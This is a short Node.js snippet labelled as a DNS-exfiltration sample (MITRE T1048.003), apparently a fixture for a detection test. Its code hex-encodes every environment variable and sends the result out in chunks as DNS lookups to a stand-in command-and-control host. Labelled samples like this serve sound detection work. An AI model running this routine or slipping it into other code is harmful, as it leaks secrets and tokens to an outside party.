// expect: dns-exfiltration | source: T1048.003
const dns = require("dns");
const text = Buffer.from(JSON.stringify(process.env)).toString("hex");
for (let place = 0; place < text.length; place += 60) {
  dns.resolve(`${text.slice(place, place + 60)}.c2.example.invalid`, () => {});
}
